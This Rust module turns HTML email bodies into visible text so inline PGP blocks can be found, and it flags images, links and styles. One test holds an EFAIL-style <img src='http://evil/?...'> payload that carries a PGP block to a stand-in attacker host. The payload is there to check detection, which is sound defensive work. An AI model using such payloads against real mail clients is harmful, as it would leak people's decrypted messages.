//! The text of a text/html body, for finding inline PGP in it as in a
//! text body: webmail sends an armored block as HTML, a `<div>` or
//! `<br>` per line and `&nbsp;` for spaces.
//!
//! Only what a reader sees as text is kept: markup is dropped, line
//! breaks come from `<br>` and block elements, runs of whitespace
//! collapse as a browser collapses them (kept in `<pre>`), character
//! references are decoded. A block inside an attribute (`<img
//! src="...-----BEGIN PGP MESSAGE-----...">`, the EFAIL exfiltration) is
//! markup, not text, and is not found. Markup that shows something of
//! its own (an image, a link, a style or script) is noted: beside it, a
//! block is not the whole of what the reader sees.

/// The text of an HTML body and whether its markup shows anything of its
/// own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HtmlText {
    pub text: Vec<u8>,
    /// Whether some element or attribute shows content that is not text
    /// of the body (images, links, styles, scripts, frames, ...).
    pub shows_more: bool,
}

/// Elements that only lay out the text they hold.
const LAYOUT: &[&str] = &[
    "html",
    "head",
    "body",
    "meta",
    "div",
    "p",
    "br",
    "pre",
    "span",
    "font",
    "tt",
    "code",
    "b",
    "i",
    "u",
    "em",
    "strong",
    "blockquote",
    "o:p",
];

/// Elements that start a line of their own.
const BLOCK: &[&str] = &[
    "div",
    "p",
    "pre",
    "blockquote",
    "li",
    "tr",
    "table",
    "h1",
    "h2",
    "h3",
];

/// Elements whose content is not body text at all.
const SKIPPED: &[&str] = &["script", "style", "title", "template", "textarea"];

/// Attribute content that shows something: an image, a background.
const SHOWING_ATTRIBUTES: &[&str] = &["src", "background", "url("];

/// The text of `html` ([`HtmlText`]). Linear in its length.
pub fn html_text(html: &[u8]) -> HtmlText {
    let mut out = HtmlText {
        text: Vec::with_capacity(html.len()),
        shows_more: false,
    };
    let mut pre = 0usize;
    let mut i = 0usize;
    while let Some(&b) = html.get(i) {
        match b {
            b'<' if html.get(i..).is_some_and(|r| r.starts_with(b"<!--")) => {
                i = find(html, i + 4, b"-->").map_or(html.len(), |e| e + 3);
            }
            b'<' => i = tag(html, i, &mut out, &mut pre),
            b'&' => i = reference(html, i, &mut out.text),
            b'\r' if pre == 0 => i += 1,
            b' ' | b'\t' | b'\n' | b'\r' if pre == 0 => {
                if out.text.last().is_some_and(|l| !matches!(l, b' ' | b'\n')) {
                    out.text.push(b' ');
                }
                i += 1;
            }
            _ => {
                out.text.push(b);
                i += 1;
            }
        }
    }
    out
}

/// Reads the tag at `html[start]` (a `<`) and returns where the text
/// goes on.
fn tag(html: &[u8], start: usize, out: &mut HtmlText, pre: &mut usize) -> usize {
    let end = tag_end(html, start + 1);
    let inner = html.get(start + 1..end).unwrap_or_default();
    let next = (end + 1).min(html.len());
    let closing = inner.first() == Some(&b'/');
    let name: String = inner
        .iter()
        .skip(usize::from(closing))
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b':')
        .map(|c| char::from(c.to_ascii_lowercase()))
        .collect();
    if !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
        // Not a tag ("a < b"): text.
        out.text.push(b'<');
        return start + 1;
    }
    let attributes = String::from_utf8_lossy(inner).to_ascii_lowercase();
    if !LAYOUT.contains(&name.as_str()) || SHOWING_ATTRIBUTES.iter().any(|a| attributes.contains(a))
    {
        out.shows_more = true;
    }
    if SKIPPED.contains(&name.as_str()) && !closing {
        let close = format!("</{name}");
        return find_ci(html, next, close.as_bytes())
            .map_or(html.len(), |e| (tag_end(html, e + 1) + 1).min(html.len()));
    }
    if name == "pre" {
        *pre = if closing {
            pre.saturating_sub(1)
        } else {
            *pre + 1
        };
    }
    if name == "br" {
        trim_space(&mut out.text);
        out.text.push(b'\n');
    } else if BLOCK.contains(&name.as_str()) {
        trim_space(&mut out.text);
        if out.text.last().is_some_and(|l| *l != b'\n') {
            out.text.push(b'\n');
        }
    }
    next
}

/// Where the tag that starts before `from` ends (its `>`, outside
/// quoted attribute values), or the end of the input.
fn tag_end(html: &[u8], from: usize) -> usize {
    let mut quote: Option<u8> = None;
    for (i, &b) in html.iter().enumerate().skip(from) {
        match (quote, b) {
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'') => quote = Some(b),
            (None, b'>') => return i,
            _ => {}
        }
    }
    html.len()
}

/// Drops a space at the end of the text, before a line break.
fn trim_space(text: &mut Vec<u8>) {
    if text.last() == Some(&b' ') {
        text.pop();
    }
}

/// Decodes the character reference at `html[start]` (a `&`) into
/// `text`; returns where the text goes on. An unknown one is text.
fn reference(html: &[u8], start: usize, text: &mut Vec<u8>) -> usize {
    let rest = html.get(start + 1..).unwrap_or_default();
    let Some(semi) = rest.iter().take(12).position(|&b| b == b';') else {
        text.push(b'&');
        return start + 1;
    };
    let name = rest.get(..semi).unwrap_or_default();
    let c = match name {
        b"nbsp" => Some('\u{a0}'),
        b"lt" => Some('<'),
        b"gt" => Some('>'),
        b"amp" => Some('&'),
        b"quot" => Some('"'),
        b"apos" => Some('\''),
        _ => numeric(name),
    };
    match c {
        Some(c) => {
            let mut buf = [0u8; 4];
            text.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            start + 1 + semi + 1
        }
        None => {
            text.push(b'&');
            start + 1
        }
    }
}

/// `#160` or `#xA0`.
fn numeric(name: &[u8]) -> Option<char> {
    let digits = std::str::from_utf8(name.strip_prefix(b"#")?).ok()?;
    let value = match digits.strip_prefix(['x', 'X']) {
        Some(hex) => u32::from_str_radix(hex, 16).ok()?,
        None => digits.parse().ok()?,
    };
    char::from_u32(value)
}

fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?
        .windows(needle.len())
        .position(|w| w == needle)
        .map(|p| p + from)
}

fn find_ci(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?
        .windows(needle.len())
        .position(|w| w.eq_ignore_ascii_case(needle))
        .map(|p| p + from)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn webmail_lines_become_text_lines() {
        let html = b"<html><head><meta charset=utf-8></head><body>\r\n<div>-----BEGIN PGP MESSAGE-----</div>\r\n<div>Comment:&nbsp;x &amp; y</div><div><br></div>\r\n<div>hQEM</div>\r\n<p>a  b<br>c</p><pre>  d\n e</pre></body></html>";
        let t = html_text(html);
        assert_eq!(
            String::from_utf8(t.text).unwrap(),
            "-----BEGIN PGP MESSAGE-----\nComment:\u{a0}x & y\n\nhQEM\na b\nc\n  d\n e\n"
        );
        assert!(!t.shows_more);
    }

    #[test]
    fn markup_that_shows_more_is_noted_and_attributes_are_not_text() {
        let t = html_text(b"<img src=\"http://evil/?-----BEGIN PGP MESSAGE-----\nx\">hi");
        assert_eq!(t.text, b"hi");
        assert!(t.shows_more);
        let t = html_text(b"<style>p{}</style><div style=\"background:url(x)\">hi</div>");
        assert_eq!(t.text, b"hi\n");
        assert!(t.shows_more);
        assert!(html_text(b"<a href=x>hi</a>").shows_more);
    }

    #[test]
    fn fail_broken_markup_ends_without_panic() {
        for html in [
            &b"<div"[..],
            b"<!-- x",
            b"&#xFFFFFFFF;",
            b"a < b &",
            b"<script>x",
        ] {
            let _ = html_text(html);
        }
        assert_eq!(html_text(b"a < b &x").text, b"a < b &x");
    }
}
